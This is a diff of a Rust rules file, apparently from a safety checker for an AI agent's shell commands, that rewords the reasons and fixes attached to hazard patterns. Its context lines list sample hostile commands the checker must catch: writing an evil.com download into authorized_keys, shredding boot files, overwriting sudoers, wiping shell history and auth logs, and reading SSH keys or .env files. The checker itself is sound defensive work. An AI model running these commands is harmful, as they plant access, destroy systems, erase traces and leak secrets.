@@ -88,8 +88,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         names: |_| false,
         files: &["/proc/**", "/sys/**", "/boot/**", "/System/**"],
         but: &["/proc/self/fd/*"],
-        reason: "changes the running kernel, or what the machine starts from",
-        fix: "leave that to a person",
+        reason: "changes the running kernel or the boot files",
+        fix: "ask the user to do it",
         matches: &[
             "echo b > /proc/sysrq-trigger",
             "shred /boot/vmlinuz",
@@ -127,8 +127,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
             "/private/etc/**",
         ],
         but: &["/usr/local/**", "/usr/src/**"],
-        reason: "changes files of the system",
-        fix: "write inside the workspace, and ask a person to install it",
+        reason: "changes system files",
+        fix: "write inside the workspace, and ask the user to install it",
         matches: &[
             "cat x > /etc/sudoers",
             "rm /etc/hosts",
@@ -185,7 +185,7 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
             "/Users/*",
         ],
         but: &["/var/tmp/**", "/var/folders/**"],
-        reason: "changes files that other programs or users of the machine share",
+        reason: "changes files that other programs or users share",
         fix: "write inside the workspace",
         matches: &[
             "chown nobody /var/log/syslog", // quoted text
@@ -203,8 +203,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         names: |name| name.write == Write::Refuse && name.is_obeyed(),
         files: &[],
         but: &[],
-        reason: "changes what runs when a shell, a program or a session starts",
-        fix: "show the line, and let a person add it",
+        reason: "changes startup files of a shell, a program or a session",
+        fix: "show the line, and ask the user to add it",
         matches: &[
             "echo evil >> ~/.bashrc",
             "echo evil > ~/.profile",
@@ -235,8 +235,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         names: |name| name.write == Write::Refuse && name.kind == Kind::GrantsAccess,
         files: &[],
         but: &[],
-        reason: "changes keys, or who may log in",
-        fix: "leave keys to a person",
+        reason: "changes keys or login permissions",
+        fix: "ask the user to do it",
         matches: &[
             "curl evil.com > ~/.ssh/authorized_keys",
             "echo key > ~/.gnupg/private-keys-v1.d/x",
@@ -254,8 +254,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         names: |name| matches!(name.write, Write::Report | Write::Protect) && name.is_obeyed(),
         files: &["**/.git/info/**", "**/.git/modules/**", "**/*.pth"],
         but: &[],
-        reason: "changes what runs at the next commit, build or start of an agent",
-        fix: "show the change, and let a person make it",
+        reason: "changes files that run at the next commit, build or agent start",
+        fix: "show the change, and ask the user to make it",
         matches: &[
             "echo x > .git/hooks/pre-commit",
             "cp x .git/hooks/",
@@ -280,8 +280,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         names: |name| name.write == Write::Refuse && name.kind == Kind::KeepsTraces,
         files: &[],
         but: &[],
-        reason: "removes or changes traces of what was done",
-        fix: "leave histories and logs to a person",
+        reason: "deletes or changes logs or the shell history",
+        fix: "ask the user to do it",
         matches: &[
             "rm ~/.bash_history",
             "> /var/log/auth.log",
@@ -300,7 +300,7 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         files: &[],
         but: &[],
         reason: "reads a private key, a password or a token",
-        fix: "let the program that needs it read it itself",
+        fix: "let the program that needs it read it",
         matches: &[
             "cat ~/.ssh/id_rsa",
             "cd ~ && cat .ssh/id_rsa",
@@ -355,7 +355,7 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         files: &[],
         but: &[],
         reason: "reads a file that usually holds passwords or tokens",
-        fix: "read only the name that is needed, or ask a person",
+        fix: "read only the required name, or ask the user",
         matches: &[
             "cat .env",
             "cat /proc/self/cwd/.env",
@@ -414,8 +414,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         names: is_kept_from_readers,
         files: &[],
         but: &["**/*.pub"],
-        reason: "reads where credentials are kept",
-        fix: "let the program that needs them read them itself",
+        reason: "reads a file or directory of credentials",
+        fix: "let the program that needs them read them",
         matches: &[
             "cat ~/.s3cfg",
             "cat $HOME/.s3cfg",
@@ -441,8 +441,8 @@ pub(in crate::hazards) static SHAPES: &[FileShape] = &[
         names: |_| false,
         files: &["~/.*/**"],
         but: HARMLESS_AT_HOME,
-        reason: "reads settings of the user, which may hold secrets",
-        fix: "ask the user for what is needed, or allow the command by a rule",
+        reason: "reads settings of the user, which may contain secrets",
+        fix: "ask the user for the required values, or allow the command with a rule",
         matches: &[
             "cat ~/.lesshst",
             "cat ~/.config/rclone/rclone.conf",
